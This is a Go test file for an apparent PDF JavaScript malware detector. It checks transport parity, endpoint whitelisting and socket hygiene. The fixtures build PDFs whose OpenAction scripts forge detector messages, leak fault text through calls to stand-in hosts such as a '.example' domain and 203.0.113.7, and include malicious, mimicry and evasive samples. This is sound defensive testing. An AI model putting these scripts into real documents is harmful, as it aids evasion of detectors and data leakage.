package pipeline

import (
	"bytes"
	"fmt"
	"os"
	"reflect"
	"strings"
	"testing"

	"pdfshield/internal/attack"
	"pdfshield/internal/cache"
	"pdfshield/internal/corpus"
	"pdfshield/internal/detect"
	"pdfshield/internal/hook"
	"pdfshield/internal/instrument"
	"pdfshield/internal/journal"
	"pdfshield/internal/obs"
	"pdfshield/internal/pdf"
	"pdfshield/internal/reader"
	"pdfshield/internal/soapsrv"
	"pdfshield/internal/winos"
)

// parityDetectorID fixes the install identity, so a forger can guess a key
// under the right detector id and reach the unknown-key rejection.
const parityDetectorID = "5eed5eed5eed5eed5eed5eed"

// scriptDoc wraps one OpenAction script in a minimal PDF.
func scriptDoc(t *testing.T, script string) []byte {
	t.Helper()
	d := pdf.NewDocument()
	js := d.Add(pdf.String{Value: []byte(script)})
	action := d.Add(pdf.Dict{"S": pdf.Name("JavaScript"), "JS": js})
	d.Trailer["Root"] = d.Add(pdf.Dict{"Type": pdf.Name("Catalog"), "OpenAction": action})
	raw, err := pdf.Write(d, pdf.WriteOptions{})
	if err != nil {
		t.Fatal(err)
	}
	return raw
}

// forgedDoc is a fake-message attacker: it sends a context message with a
// forged key and makes the fault text it reads back observable, as a
// network feature whose host carries the text's length.
func forgedDoc(t *testing.T, key string) []byte {
	t.Helper()
	return scriptDoc(t, fmt.Sprintf(
		`try { SOAP.request({cURL:%q, oRequest:{Event:"exit", Key:%q, Seq:1}}); } catch (e) { SOAP.connect("http://fault" + e.length + ".example/"); }`,
		instrument.DefaultEndpoint, key))
}

// parityCorpus is a mixed batch whose runtime traffic covers every kind of
// message the detector handles: benign scripts, every malicious family,
// fake messages (a guessed key, a foreign detector id, a key the XML codec
// rewrites), the mimicry attack, the evasive families, a script touching
// the detector's own endpoint, and a scriptless control.
func parityCorpus(t *testing.T, deep bool) []BatchDoc {
	t.Helper()
	g := corpus.NewGenerator(1401)
	var docs []BatchDoc
	add := func(id string, raw []byte) { docs = append(docs, BatchDoc{ID: id, Raw: raw}) }
	for _, s := range g.BenignWithJS(3) {
		add(s.ID, s.Raw)
	}
	s := g.BenignText(8 << 10)
	add(s.ID, s.Raw)
	fams := corpus.MaliciousFamilies()
	if deep {
		fams = fams[:3]
	}
	for _, fam := range fams {
		s, _ := g.MaliciousFamily(fam)
		add(s.ID, s.Raw)
	}
	add("forged-guess", forgedDoc(t, parityDetectorID+":000000000000000000000000"))
	add("forged-foreign", forgedDoc(t, "f0f0f0f0f0f0f0f0f0f0f0f0:<&>"))
	add("forged-rewritten", forgedDoc(t, parityDetectorID+":\u0000\uffff\r\n"))
	m := attack.MimicrySample(1402)
	add(m.ID, m.Raw)
	for _, kind := range attack.EvasiveKinds() {
		s, _ := attack.EvasiveSample(kind, 1403)
		add(s.ID, s.Raw)
	}
	add("own-endpoint", scriptDoc(t, fmt.Sprintf(`SOAP.connect(%q);`, instrument.DefaultEndpoint)))
	return docs
}

// parityRun is one side of the parity test.
type parityRun struct {
	verdicts []*Verdict
	errs     []error
	alerts   []detect.Alert
	canon    []string
}

// parityBase instruments docs once into a cached front-end, so that both
// transports open byte-identical documents under the same keys
// (instrumentation keys come from crypto/rand, not from the seed).
func parityBase(t *testing.T, depth Depth, docs []BatchDoc) *System {
	t.Helper()
	sys, err := NewSystem(Options{
		ViewerVersion: 8.0,
		Seed:          1404,
		DetectorID:    parityDetectorID,
		Obs:           obs.NewRegistry(),
		Depth:         depth,
		Cache:         &cache.Config{},
	})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = sys.Close() })
	for _, d := range docs {
		res, _, _ := sys.frontEnd(t.Context(), d.ID, d.Raw)
		sys.release(res)
	}
	return sys
}

// runParity processes docs serially through one recycled session, on a
// fresh detector, OS and journal over base's front-end. With wire set the
// session reaches the detector through a SOAP server and a hook server
// wrapping it instead of in-process.
func runParity(t *testing.T, base *System, docs []BatchDoc, wire bool) parityRun {
	t.Helper()
	var buf bytes.Buffer
	jw := journal.NewWriter(&buf, journal.Options{Session: "parity"})
	osState := winos.NewOS()
	det, err := detect.New(detect.Config{Registry: base.Registry, OS: osState, Obs: obs.NewRegistry(), Journal: jw})
	if err != nil {
		t.Fatal(err)
	}
	opts := base.opts
	opts.Journal = jw
	reg := obs.NewRegistry()
	sys := &System{
		Registry:     base.Registry,
		Instrumenter: base.Instrumenter,
		Detector:     det,
		OS:           osState,
		Obs:          reg,
		opts:         opts,
		cache:        base.cache,
		jsUnits:      base.jsUnits,
		diag:         obs.NewDiagnostics(reg, obs.WatchdogConfig{}),
		keyLocks:     make(map[*instrument.Result]*keyLock),
	}
	defer sys.diag.Close()
	newSession := sys.NewSession
	if wire {
		newSession = wireSessions(t, sys)
	}

	var run parityRun
	w := sys.NewWorker()
	for _, d := range docs {
		if w.sess == nil {
			w.sess = newSession()
		}
		v, err := w.Process(t.Context(), d)
		run.verdicts = append(run.verdicts, v)
		run.errs = append(run.errs, err)
	}
	w.Close()
	run.alerts = det.Alerts()
	if err := jw.Flush(); err != nil {
		t.Fatal(err)
	}
	events, err := journal.Read(&buf)
	if err != nil {
		t.Fatal(err)
	}
	run.canon = journal.CanonStream(events)
	return run
}

// wireSessions starts a hook server and a SOAP server wrapping sys's
// detector, closed with the test, and returns a session factory that wires
// each reader process to them the way a reader outside the detector's
// process would reach it: a dialled hook connection and SOAP over HTTP.
func wireSessions(t *testing.T, sys *System) func() *Session {
	t.Helper()
	hookSrv := hook.NewServer(sys.Detector.Event)
	soapSrv := soapsrv.NewServer(sys.Detector.Notify)
	for _, srv := range []interface {
		Start() error
		Close() error
	}{hookSrv, soapSrv} {
		if err := srv.Start(); err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { _ = srv.Close() })
	}
	return func() *Session {
		tcp, err := hook.Dial(hookSrv.Addr())
		if err != nil {
			t.Fatal(err)
		}
		proc := reader.NewProcess(reader.Config{
			ViewerVersion: sys.opts.ViewerVersion,
			Sink:          tcp,
			OS:            sys.OS,
			DetectorSOAP:  soapSrv.URL(),
			Units:         sys.jsUnits,
		})
		return &Session{Proc: proc, sink: tcp}
	}
}

// TestDirectTransportParity runs one mixed batch through sessions that
// call the detector in-process and through sessions that reach the same
// detector over its SOAP and hook wire servers: verdicts, alerts and the
// canonical journal stream must be identical at standard and deep depth.
func TestDirectTransportParity(t *testing.T) {
	for _, depth := range []Depth{DepthStandard, DepthDeep} {
		t.Run(string(depth), func(t *testing.T) {
			docs := parityCorpus(t, depth == DepthDeep)
			base := parityBase(t, depth, docs)
			direct := runParity(t, base, docs, false)
			wire := runParity(t, base, docs, true)

			convicted := map[string]bool{}
			for i, d := range docs {
				dv, wv := direct.verdicts[i], wire.verdicts[i]
				if fmt.Sprint(direct.errs[i]) != fmt.Sprint(wire.errs[i]) {
					t.Errorf("%s: error direct %v, wire %v", d.ID, direct.errs[i], wire.errs[i])
					continue
				}
				if dv == nil || wv == nil {
					t.Errorf("%s: missing verdict (direct %v, wire %v)", d.ID, dv != nil, wv != nil)
					continue
				}
				if dv.Malicious != wv.Malicious || dv.Crashed != wv.Crashed || dv.NoJavaScript != wv.NoJavaScript ||
					dv.FeatureVector != wv.FeatureVector || !reflect.DeepEqual(dv.Alert, wv.Alert) {
					t.Errorf("%s: verdict direct %+v alert %+v, wire %+v alert %+v", d.ID, dv, dv.Alert, wv, wv.Alert)
				}
				convicted[d.ID] = dv.Malicious
			}
			if !reflect.DeepEqual(direct.alerts, wire.alerts) {
				t.Errorf("alerts differ:\n direct %+v\n wire   %+v", direct.alerts, wire.alerts)
			}
			if !reflect.DeepEqual(direct.canon, wire.canon) {
				t.Errorf("canonical journal streams differ (%d vs %d events)", len(direct.canon), len(wire.canon))
				for i := range min(len(direct.canon), len(wire.canon)) {
					if direct.canon[i] != wire.canon[i] {
						t.Errorf("first difference at %d:\n direct %s\n wire   %s", i, direct.canon[i], wire.canon[i])
						break
					}
				}
			}

			// The batch must exercise what it claims to: fake messages and
			// mimicry convict, and the fault text reaches the script.
			for _, id := range []string{"forged-guess", "forged-foreign", "forged-rewritten", "mimicry-01402"} {
				if !convicted[id] {
					t.Errorf("%s not convicted", id)
				}
			}
			if !strings.Contains(strings.Join(direct.canon, "\n"), "fault") {
				t.Error("no script observed a SOAP fault")
			}
		})
	}
}

// TestOwnEndpointWhitelisted pins the detector's channel whitelist on the
// in-process path: a script touching the endpoint its monitors report to
// makes no network access, while the same call to another host does.
func TestOwnEndpointWhitelisted(t *testing.T) {
	sys := newSystem(t, 9.0)
	for _, tc := range []struct {
		url  string
		want int
	}{
		{instrument.DefaultEndpoint, 0},
		{"http://203.0.113.7/ctx", 1},
	} {
		raw := scriptDoc(t, fmt.Sprintf(`SOAP.connect(%q);`, tc.url))
		v, err := sys.ProcessDocumentContext(t.Context(), tc.url, raw)
		if err != nil {
			t.Fatal(err)
		}
		if got := v.FeatureVector[detect.FNetwork]; got != tc.want {
			t.Errorf("connect to %s: in-JS network feature = %d, want %d", tc.url, got, tc.want)
		}
	}
}

// openSockets counts the process's socket descriptors (-1 where /proc is
// unavailable).
func openSockets() int {
	fds, err := os.ReadDir("/proc/self/fd")
	if err != nil {
		return -1
	}
	n := 0
	for _, fd := range fds {
		if target, err := os.Readlink("/proc/self/fd/" + fd.Name()); err == nil && strings.HasPrefix(target, "socket:") {
			n++
		}
	}
	return n
}

// TestNewSystemOpensNoListener: building a System and scanning through it
// opens no socket at all, and Close stays safe and idempotent.
func TestNewSystemOpensNoListener(t *testing.T) {
	before := openSockets()
	if before < 0 {
		t.Skip("no /proc/self/fd")
	}
	sys, err := NewSystem(Options{Seed: 1405, Obs: obs.NewRegistry()})
	if err != nil {
		t.Fatal(err)
	}
	g := corpus.NewGenerator(1405)
	mal, _ := g.MaliciousFamily("mal-geticon")
	v, err := sys.ProcessDocumentContext(t.Context(), mal.ID, mal.Raw)
	if err != nil {
		t.Fatal(err)
	}
	if !v.Malicious {
		t.Error("malicious document not convicted")
	}
	if after := openSockets(); after > before {
		t.Errorf("sockets open: %d before NewSystem, %d after a scan", before, after)
	}
	for i := 0; i < 2; i++ {
		if err := sys.Close(); err != nil {
			t.Errorf("Close #%d: %v", i+1, err)
		}
	}
}
